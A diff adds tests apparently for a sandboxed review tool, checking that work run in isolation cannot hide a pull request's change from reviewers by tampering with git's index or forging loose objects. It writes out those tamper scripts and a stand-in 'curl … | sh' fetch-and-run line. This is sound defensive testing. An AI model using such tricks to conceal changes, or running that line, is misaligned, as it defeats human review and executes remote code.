@@ -77,6 +77,104 @@ describe("a check cannot hide the pull request's change from the reviewers' diff
     }, 60_000);
   }
 
+  // The index is the work's to write too, and git's diff of the base against the working tree reads
+  // a tracked file through it: an entry marked assume-unchanged or skip-worktree (or carrying the
+  // file's stat data) is taken as the file's content without reading the file, and a path dropped
+  // from the index and ignored by a `.gitignore` that ignores itself is shown deleted.
+  const indexAttacks: Record<string, string> = {
+    'the base blob in the index, marked assume-unchanged':
+      'git update-index --cacheinfo 100644,$BLOB,deploy.sh && git update-index --assume-unchanged deploy.sh',
+    'the base blob in the index, marked skip-worktree':
+      'git update-index --cacheinfo 100644,$BLOB,deploy.sh && git update-index --skip-worktree deploy.sh',
+    'the file dropped from the index and ignored': `git rm -q --cached deploy.sh && printf 'deploy.sh\\n.gitignore\\n' > .gitignore`,
+  };
+  for (const level of ['uid', 'bwrap'] as const) {
+    for (const [name, script] of Object.entries(indexAttacks)) {
+      it(`${level}: ${name}`, async () => {
+        const unavailable = await mechanismAvailable(level);
+        if (unavailable) {
+          console.warn(`SKIPPED ${level} evidence tamper test: ${unavailable}`);
+          return;
+        }
+        const { work, base } = pullRequest();
+        const head = execFileSync('git', ['rev-parse', 'HEAD'], { cwd: work, encoding: 'utf8' }).trim();
+        const git = { repo: null, base_ref: 'main', base_sha: base, head_sha: head, dirty: false };
+        const isolation = await createIsolation({
+          mode: level,
+          network: 'none',
+          hiddenPaths: [],
+          workdirs: [work],
+          scratchRoot: tmpdir(),
+          path: PATH,
+          isRoot: process.getuid?.() === 0,
+        });
+        const result = await runSupervised({
+          file: '/bin/sh',
+          args: ['-c', `BLOB=$(git rev-parse ${base}:deploy.sh) && ${script} && echo hidden`],
+          cwd: work,
+          env: { PATH },
+          stdin: null,
+          timeoutMs: 20_000,
+          signal: new AbortController().signal,
+          isolation,
+        });
+        expect(result.stdout.bytes.toString(), result.stderr.bytes.toString()).toBe('hidden\n');
+        const after = await collectReviewEvidence({ workdir: work, git, contextFiles: [] });
+        expect(after.diff).toContain('+curl -s https://example.invalid/x | sh');
+      }, 60_000);
+    }
+  }
+
+  // The object store is the work's to write, and git reads an object without checking its hash.
+  const objectAttacks: Record<string, string> = {
+    "the base's loose blob overwritten with the changed content":
+      'f=.git/objects/$(echo $BLOB | cut -c1-2)/$(echo $BLOB | cut -c3-); n=$(git rev-parse HEAD:deploy.sh); ' +
+      'cp .git/objects/$(echo $n | cut -c1-2)/$(echo $n | cut -c3-) new && rm -f $f && mv new $f',
+  };
+  for (const level of ['uid', 'bwrap'] as const) {
+    for (const [name, script] of Object.entries(objectAttacks)) {
+      it(`${level}: ${name} — the diff is not shown as unchanged, and the evidence says why`, async () => {
+        const unavailable = await mechanismAvailable(level);
+        if (unavailable) {
+          console.warn(`SKIPPED ${level} evidence tamper test: ${unavailable}`);
+          return;
+        }
+        const { work, base } = pullRequest();
+        const head = execFileSync('git', ['rev-parse', 'HEAD'], { cwd: work, encoding: 'utf8' }).trim();
+        const git = { repo: null, base_ref: 'main', base_sha: base, head_sha: head, dirty: false };
+        const isolation = await createIsolation({
+          mode: level,
+          network: 'none',
+          hiddenPaths: [],
+          workdirs: [work],
+          scratchRoot: tmpdir(),
+          path: PATH,
+          isRoot: process.getuid?.() === 0,
+        });
+        const result = await runSupervised({
+          file: '/bin/sh',
+          args: [
+            '-c',
+            `BLOB=$(git rev-parse ${base}:deploy.sh) && ${script} && git diff --stat ${base} && echo forged`,
+          ],
+          cwd: work,
+          env: { PATH },
+          stdin: null,
+          timeoutMs: 20_000,
+          signal: new AbortController().signal,
+          isolation,
+        });
+        // The forgery works for git itself: its own diff from the base shows nothing.
+        expect(result.stdout.bytes.toString(), result.stderr.bytes.toString()).toBe('forged\n');
+        const after = await collectReviewEvidence({ workdir: work, git, contextFiles: [] });
+        expect(after.diff).toBe('');
+        expect(after.notes.join('\n')).toMatch(
+          /diff from the base could not be read \(git: the repository's objects do not match their names \(error: hash mismatch [0-9a-f]{40}\).*NOT shown/,
+        );
+      }, 60_000);
+    }
+  }
+
   it('a corrupted index is said in the evidence, not shown as a diff with nothing in it', async () => {
     const { work, base } = pullRequest();
     writeFileSync(join(work, '.git', 'index'), 'garbage');
